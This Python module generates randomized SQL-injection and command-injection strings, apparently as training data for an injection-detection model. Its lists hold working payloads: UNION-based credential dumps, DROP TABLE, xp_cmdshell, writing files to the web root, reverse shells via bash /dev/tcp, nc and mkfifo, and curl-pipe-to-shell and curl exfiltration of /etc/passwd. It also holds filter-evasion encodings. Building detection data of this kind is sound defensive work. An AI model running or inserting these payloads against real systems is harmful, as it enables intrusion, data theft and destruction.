"""Grammar-generated SQL-injection and command-injection strings (training augmentation only).

These rows go to the TRAIN split only, and any generated string whose skeleton equals the skeleton of a
val/test payload group is dropped, so the held-out evaluation stays on fray/wfuzz payload families."""
import base64


def _ws(rng):
    return rng.choice([" ", " ", " ", "/**/", "\t", "+", "%20", "  "])


def _case(rng, s):
    r = rng.random()
    if r < 0.5:
        return s
    if r < 0.7:
        return s.lower()
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def sqli(rng):
    n = rng.randrange(1, 10)
    tgt = rng.choice(["users", "admin", "accounts", "members", "information_schema.tables", "mysql.user", "sys.objects", "pg_user"])
    body = rng.choice([
        "OR 1=1", "OR '1'='1", 'OR "a"="a', "OR 2>1", "|| 1=1", "OR true", "OR 'x' LIKE 'x'", "OR %d=%d" % (n, n), "AND 1=2", "AND 1=1",
        "UNION SELECT " + ",".join(rng.choice(["NULL", str(i + 1), "@@version", "user()", "database()", "version()", "table_name", "0x41"]) for i in range(n)),
        "UNION ALL SELECT " + ",".join("NULL" for _ in range(n)) + rng.choice(["", " FROM " + tgt]),
        "UNION SELECT username,password FROM " + tgt,
        "AND SLEEP(%d)" % n, "AND (SELECT %d FROM (SELECT(SLEEP(%d)))a)" % (rng.randrange(1000, 9999), n), "; WAITFOR DELAY '0:0:%d'" % n,
        "AND pg_sleep(%d)" % n, "; SELECT pg_sleep(%d)" % n, "AND BENCHMARK(%d000000,MD5(1))" % n, "OR SLEEP(%d)" % n,
        "AND extractvalue(1,concat(0x7e,(SELECT version())))", "AND updatexml(1,concat(0x7e,user()),1)", "AND 1=CONVERT(int,@@version)",
        "AND 1=CAST((SELECT current_user) AS int)", "AND (SELECT COUNT(*) FROM %s)>0" % tgt,
        "; DROP TABLE %s" % tgt.split(".")[-1], "; INSERT INTO users (name,role) VALUES ('x','admin')", "; UPDATE users SET role='admin'",
        "; EXEC xp_cmdshell '%s'" % rng.choice(["whoami", "dir", "ping 10.0.0.1"]), "; SHUTDOWN", "; DECLARE @q varchar(99); EXEC(@q)",
        "AND SUBSTRING(@@version,1,1)='%d'" % n, "AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),%d,1))>%d" % (n, rng.randrange(40, 120)),
        "ORDER BY %d" % n, "GROUP BY %d HAVING 1=1" % n, "AND 1=(SELECT 1 FROM dual)", "OR EXISTS(SELECT * FROM %s)" % tgt,
        "AND ORD(MID(database(),%d,1))>%d" % (n, rng.randrange(60, 120)), "PROCEDURE ANALYSE()", "INTO OUTFILE '/var/www/html/x.php'",
        "AND LOAD_FILE('/etc/passwd')", "AND 1 IN (SELECT @@version)", "RLIKE SLEEP(%d)" % n,
    ])
    ws = _ws(rng)
    body = _case(rng, body)
    if ws != " ":
        body = body.replace(" ", ws)
    pre = rng.choice(["", "1", "admin", str(rng.randrange(100000)), "x", "test@example.com", "-1"])
    q = rng.choice(["'", "'", '"', "", "')", '")', "'))", "\\'", "`"])
    suf = rng.choice(["--", "-- -", "#", "/*", ";--", "", "", "%00", "-- " + str(n)])
    if q and rng.random() < 0.3 and not suf:
        suf = rng.choice([" AND '1'='1", " AND 'a'='a", ' AND "1"="1'])
    return pre + q + ws + body + suf


def cmdi(rng):
    ip = "%d.%d.%d.%d" % (rng.randrange(1, 224), rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))
    port = rng.choice([4444, 1337, 9001, 8080, 53, 443])
    cmd = rng.choice([
        "id", "whoami", "uname -a", "cat /etc/passwd", "cat /etc/shadow", "ls -la /", "ls /home", "printenv", "env", "ifconfig", "ip a", "netstat -an",
        "ps aux", "sleep %d" % rng.randrange(2, 30), "ping -c %d %s" % (rng.randrange(1, 20), ip), "nslookup %s.oast.example" % rng.choice(["abc", "x1", "test"]),
        "curl http://%s/x.sh | sh" % ip, "curl -s http://%s:%d/ -d @/etc/passwd" % (ip, port), "wget http://%s/x -O /tmp/x" % ip, "nc %s %d -e /bin/sh" % (ip, port),
        "bash -i >& /dev/tcp/%s/%d 0>&1" % (ip, port), "python3 -c 'import os;os.system(\"id\")'", "perl -e 'exec \"/bin/sh\"'", "echo %s" % rng.choice(["vulnerable", "INJECTED", "$((7*7))"]),
        "type C:\\windows\\win.ini", "dir C:\\", "net user", "whoami /priv", "powershell -enc " + base64.b64encode("iex whoami".encode("utf-16le")).decode(),
        "certutil -urlcache -f http://%s/x.exe x.exe" % ip, "tail -f /var/log/syslog", "grep -r password /etc", "find / -perm -4000", "chmod +x /tmp/x; /tmp/x",
        "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc %s %d >/tmp/f" % (ip, port), "cat /proc/self/environ", "uname", "hostname", "pwd", "id;uname -a",
    ])
    r = rng.random()
    if r < 0.12:
        cmd = cmd.replace(" ", rng.choice(["${IFS}", "$IFS$9", "<", "%09", "{,}"[0:0] or "${IFS}"]))
    elif r < 0.2 and cmd.isalpha():
        i = rng.randrange(1, len(cmd))
        cmd = cmd[:i] + rng.choice(["''", '""', "\\"]) + cmd[i:]
    elif r < 0.26:
        cmd = "echo %s|base64 -d|sh" % base64.b64encode(cmd.encode()).decode()
    elif r < 0.3 and cmd.isalpha():
        cmd = "$'" + "".join("\\%o" % ord(c) for c in cmd) + "'"
    sep = rng.choice([";", ";", "|", "||", "&", "&&", "\n", "%0a", "%0d%0a", "`", "$(", "\r\n"])
    if sep == "`":
        core = "`" + cmd + "`"
    elif sep == "$(":
        core = "$(" + cmd + ")"
    else:
        core = sep + rng.choice(["", " "]) + cmd
    pre = rng.choice(["", "", "127.0.0.1", "test", "x", str(rng.randrange(1000)), "file.txt", "'", '"', "google.com"])
    suf = rng.choice(["", "", " #", ";", "&", "'", '"', " 2>&1", "|"])
    return pre + core + suf
